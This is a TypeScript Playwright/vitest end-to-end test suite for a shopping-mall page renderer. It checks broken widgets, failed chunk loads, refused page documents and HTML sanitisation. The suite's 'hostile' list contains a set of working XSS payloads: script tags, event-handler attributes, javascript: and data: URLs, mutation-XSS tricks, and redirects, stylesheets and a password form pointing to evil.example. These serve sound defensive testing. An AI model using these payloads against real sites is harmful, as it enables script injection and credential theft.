import type { Locator } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { type Page, pages } from '#schemas/content/pages/calls.ts'
import { richText } from '#schemas/widgets/parts/rich-text.ts'
import { changeAnswer } from '#tests/support/answers.ts'
import { openShop, type Shop, type Visit } from '#tests/support/browser.ts'
import { builtChunk } from '#tests/support/built-chunk.ts'
import { DEEP } from '#tests/support/deep.ts'
import { some } from '#tests/support/some.ts'
import { expectStanding } from '#tests/support/standing.ts'

const HOME = '/mall/index'
const BY_ID = '/pcSecondLevel?pageId=mid-autumn'

interface Node {
  id: string
  type: string
  v?: number
  props?: unknown
}
const heading = (id: string, title: string): Node => ({ id, type: 'title-bar', v: 1, props: { title } })
const above = heading('above', '上面的标题')
const below = heading('below', '下面的标题')
const documentOf = (widgets: readonly Node[]) => JSON.stringify({ schema: 1, widgets })

interface Given extends Visit {
  at?: string
  lastGood?: string
  /** Before the page is opened. */
  prepare?: (shop: Shop) => Promise<void>
}

/** A page of the mall with another document in the place of its own, and the lines that it writes into the log. */
async function openDocument(pageConfig: string, { at = HOME, lastGood, prepare, ...visit }: Given = {}) {
  const shop = await openShop(visit)
  const log: string[] = []
  shop.page.on('console', (message) => message.text().startsWith('[mall]') && log.push(message.text()))
  const change = (page: Page): Page => ({
    ...page,
    id: 'tried',
    revision: 7,
    pageConfig,
    lastGood: lastGood === undefined ? null : { revision: 6, pageConfig: lastGood },
  })
  await changeAnswer(shop.context, pages.findHomePage, change)
  await changeAnswer(shop.context, pages.findPageById, change)
  await prepare?.(shop)
  await shop.visit(at)
  return { ...shop, log }
}

/** Whatever the document holds, header and footer stand and no script of it ran. */
async function expectHarmless(shop: Shop): Promise<void> {
  await expectStanding(shop)
  expect(await shop.page.evaluate(() => 'hacked' in window)).toBe(false)
}

async function expectNeighbours(shop: Shop): Promise<void> {
  for (const name of ['上面的标题', '下面的标题']) await shop.page.getByRole('heading', { name }).waitFor()
  await expectHarmless(shop)
}

const sectionOf = ({ page }: Shop, id: string): Locator => page.locator(`[data-widget="${id}"]`)

it.each(
  some(
    [
      ['the home page', HOME],
      ['a page by its id', BY_ID],
    ],
    1,
  ),
)('§3 bad widgets hide only themselves, on %s', async (_, at) => {
  const bad: Record<string, Node> = {
    unknown_type: { id: 'unknown', type: 'hologram', v: 1, props: {} },
    beyond_repair: { id: 'broken', type: 'image-banner', v: 1, props: {} },
    future_version: { ...heading('future', '来自明年'), v: 99 },
    not_a_widget: { id: 'nothing', type: '' },
  }
  const shop = await openDocument(documentOf([above, ...Object.values(bad), below]), { at })
  await expectNeighbours(shop)
  expect(await shop.page.locator('main [data-widget]').count()).toBe(2)
  expect(await shop.page.getByText('来自明年').count()).toBe(0)
  for (const [code, { id }] of Object.entries(bad)) {
    const told = shop.log.filter((line) => line.includes(` ${code} `))
    expect(told).toEqual([expect.stringContaining(`page tried r7 widget ${id} (`)])
  }
})

describe('§3 a widget at run time', () => {
  const divider: Node = { id: 'bad', type: 'divider', v: 1, props: {} }
  const throws = 'export const widget = { type: "divider", view() { throw new Error("thrown on purpose") } }'
  const replaceChunk = (body: string) => async (shop: Shop) => {
    const { script } = await builtChunk('components-registry/divider/divider.tsx')
    await shop.context.route(
      (url) => url.pathname === script,
      (route) => route.fulfill({ body, contentType: 'text/javascript' }),
    )
    shop.faults.allow(/^console: .*thrown on purpose/)
  }

  it('that throws while it is drawn leaves nothing behind, and is reported once', async () => {
    const again = { ...divider, id: 'bad too' }
    const shop = await openDocument(documentOf([above, divider, again, below]), {
      prepare: replaceChunk(throws),
    })
    await expectNeighbours(shop)
    await expect
      .poll(() => shop.log.toSorted())
      .toEqual([
        '[mall] page tried r7 widget bad (divider): threw thrown on purpose',
        '[mall] page tried r7 widget bad too (divider): threw thrown on purpose',
      ])
    expect(await sectionOf(shop, 'bad').innerText()).toBe('')
  })

  it('that throws inside a container leaves its siblings there', DEEP, async () => {
    const columns: Node = {
      id: 'columns',
      type: 'columns',
      v: 1,
      props: { columns: [{ children: [divider] }, { children: [heading('beside', '旁边的标题')] }] },
    }
    const shop = await openDocument(documentOf([above, columns, below]), { prepare: replaceChunk(throws) })
    await expectNeighbours(shop)
    await shop.page.getByRole('heading', { name: '旁边的标题' }).waitFor()
    await expect.poll(() => shop.log.join()).toContain('widget bad (divider): threw')
  })

  it.each(
    some<[string, string, (chunk: { script: string; styles: string[] }) => string | undefined]>(
      [
        ['script', 'ChunkLoadError', ({ script }) => script],
        ['stylesheet', 'CSS_CHUNK_LOAD_FAILED', ({ styles }) => styles.at(-1)],
      ],
      1,
    ),
  )('whose %s does not arrive offers a retry, which works afterwards', async (_, code, partOf) => {
    const part = partOf(await builtChunk('components-registry/divider/divider.tsx'))
    let broken = true
    const shop = await openDocument(documentOf([above, divider, below]), {
      prepare: async ({ context, faults }) => {
        faults.allow(/^console: Failed to load resource/, new RegExp(`^console: .*${code}`))
        await context.route(
          (url) => url.pathname === part,
          (route) => (broken ? route.abort('connectionreset') : route.continue()),
        )
      },
    })
    await expectNeighbours(shop)
    const bad = sectionOf(shop, 'bad')
    await bad.getByText('这部分内容没有加载出来').waitFor()
    expect(shop.log.join()).toContain(`widget bad (divider): ${code}`)
    broken = false
    await bad.getByRole('button', { name: '重新加载' }).click()
    await bad.getByText('这部分内容没有加载出来').waitFor({ state: 'detached' })
    await expect
      .poll(() => bad.locator('hr').evaluate((line) => getComputedStyle(line).borderTopStyle))
      .toBe('solid')
  })
})

describe('§3 a document that is refused', () => {
  const cases: [[string, string, string], ...[string, string, string][]] = [
    ['of a future version', 'future_schema', JSON.stringify({ schema: 2, widgets: [above] })],
    ['of broken JSON', 'not_json', documentOf([above]).slice(0, -2)],
    ['that is empty', 'empty', ''],
    ['without a list of widgets', 'not_a_page', 'null'],
  ]

  it.each(some(cases, 1))('%s gives way to the last good version', async (_, code, pageConfig) => {
    const shop = await openDocument(pageConfig, { lastGood: documentOf([above, below]) })
    await expectNeighbours(shop)
    expect(shop.log).toEqual([`[mall] page tried r7 refused: ${code}`])
  })

  it('without a last good version says so kindly, whatever is wrong', async () => {
    let [[, , pageConfig]] = cases
    const shop = await openDocument('', { plain: true })
    await changeAnswer(shop.context, pages.findHomePage, (page) => ({ ...page, pageConfig, lastGood: null }))
    for (const [, code, next] of cases) {
      pageConfig = next
      await shop.visit(HOME)
      await shop.page.getByRole('alert').getByText('页面暂时打不开').waitFor()
      await expectHarmless(shop)
      expect(shop.log.at(-1)).toContain(`refused: ${code}`)
    }
    pageConfig = documentOf([above, below])
    await shop.page.getByRole('button', { name: '重新加载' }).click()
    await expectNeighbours(shop)
  })

  it('by its id, without a last good version', DEEP, async () => {
    const shop = await openDocument('{', { at: BY_ID, plain: true })
    await shop.page.getByRole('alert').getByText('页面暂时打不开').waitFor()
    await expectHarmless(shop)
  })

  it('a document without widgets stands between header and footer', DEEP, async () => {
    const shop = await openDocument(documentOf([]))
    await shop.page.getByRole('navigation', { name: '商品分类' }).waitFor()
    await expectHarmless(shop)
  })
})

const RUN = 'window.hacked=1'
const CONTACTS = ['tel:400-800-1234', 'mailto:service@example.com']
const hostile = [
  `<h3>留下的标题</h3>${CONTACTS.map((address) => `<a href="${address}">${address}</a>`).join('')}`,
  `<script>${RUN}</script>`,
  `<script src="https://evil.example/a.js"></script>`,
  `<img src="x" onerror="${RUN}"><img src="https://evil.example/spy.png" alt="">`,
  `<svg onload="${RUN}"><script>${RUN}</script><animate onbegin="${RUN}" attributeName="x"></svg>`,
  `<a href="javascript:${RUN}">脚本链接</a><a href="java&#10;script:${RUN}">断开的链接</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">数据链接</a>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe><iframe src="javascript:parent.hacked=1"></iframe>`,
  '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css"><style>header, footer { display: none }</style>',
  '<form action="https://evil.example/"><input name="password" autofocus onfocus="window.hacked=1"></form>',
  '<div style="position:fixed;inset:0;z-index:9999;background:#fff">盖住全页</div>',
  '<p style="color:#c8322b;background:url(https://evil.example/b.png);margin-top:-9999px">红字</p>',
  `<details open ontoggle="${RUN}"><summary>展开</summary></details><video><source onerror="${RUN}"></video>`,
  '<p id="root" class="hidden" name="body">改名的段落</p><p>留下的结尾</p>',
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  // The last two swallow what comes after them.
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
].join('\n')

describe.each(
  some<['on' | 'off', Visit]>(
    [
      ['on', {}],
      ['off', { policy: 'none' }],
    ],
    1,
  ),
)('§3 hostile content, with the policy %s', (_, visit) => {
  it('of a rich text leaves its harmless words and contacts, and nothing that runs, leaves or covers', async () => {
    const text: Node = { id: 'text', type: 'rich-text', v: 1, props: { html: hostile } }
    const shop = await openDocument(documentOf([above, text, below]), visit)
    // The browser of the tests has neither telephone nor mail; the policy would refuse before it looks for them.
    shop.faults.allow(/Failed to launch '(?:tel|mailto):/)
    await expectNeighbours(shop)
    const section = sectionOf(shop, 'text')
    for (const word of ['留下的标题', '脚本链接', '盖住全页', '红字', '改名的段落', '留下的结尾'])
      await section.getByText(word).waitFor()
    const found = await section.evaluate((host) =>
      [...host.querySelectorAll('[aria-busy] *')].map((element) => ({
        tag: element.localName,
        names: element.getAttributeNames(),
        position: getComputedStyle(element).position,
        href: element.getAttribute('href'),
      })),
    )
    expect(found.length).toBeGreaterThan(5)
    const allowed: readonly string[] = [...richText.attributes, 'target', 'rel', 'loading']
    for (const { tag, names, position } of found) {
      expect(richText.tags).toContain(tag)
      expect(names.filter((name) => !allowed.includes(name))).toEqual([])
      expect(position).toBe('static')
    }
    expect(found.flatMap(({ href }) => href ?? [])).toEqual(CONTACTS)
    for (const link of await section.locator('a').all()) await link.click()
    await shop.landed(HOME)
    await expectHarmless(shop)
  })

  it('of other fields is text, or no address', DEEP, async () => {
    const link = (url: string) => ({ jump: '12', query: { url } })
    const items = [
      { title: '<img src=x onerror="window.hacked=1">', link: link('javascript:window.hacked=1') },
      { title: '数据地址', link: link('data:text/html,<script>opener.hacked=1</script>') },
      { title: '别处的路径', link: { jump: 'javascript:window.hacked=1' } },
    ]
    const hostileHeading = heading('title', '<script>window.hacked=1</script>')
    const nav: Node = { id: 'nav', type: 'nav-grid', v: 1, props: { items } }
    const shop = await openDocument(documentOf([above, hostileHeading, nav, below]), visit)
    await expectNeighbours(shop)
    await shop.page.getByRole('heading', { name: '<script>window.hacked=1</script>' }).waitFor()
    const clickables = sectionOf(shop, 'nav').locator('a, button')
    for (const clickable of await clickables.all()) await clickable.click()
    await shop.landed(HOME)
    expect(shop.context.pages()).toHaveLength(1)
    await expectHarmless(shop)
  })
})

it('§3 a thousand widgets: the first at once, the last when it is reached', async () => {
  const many = Array.from({ length: 1000 }, (_, index) => heading(`w${index}`, `标题${index}号`))
  const shop = await openDocument(documentOf(many))
  await shop.page.getByRole('heading', { name: '标题0号' }).waitFor()
  // Their places are made slice by slice.
  await shop.page.locator('[data-widget="w999"]').waitFor({ state: 'attached' })
  expect(await shop.page.locator('main [data-widget]').count()).toBe(1000)
  expect(await shop.page.getByRole('heading', { name: '标题999号' }).count()).toBe(0)
  await shop.page.locator('footer').scrollIntoViewIfNeeded()
  await shop.page.getByRole('heading', { name: '标题999号' }).waitFor()
  await expectHarmless(shop)
})
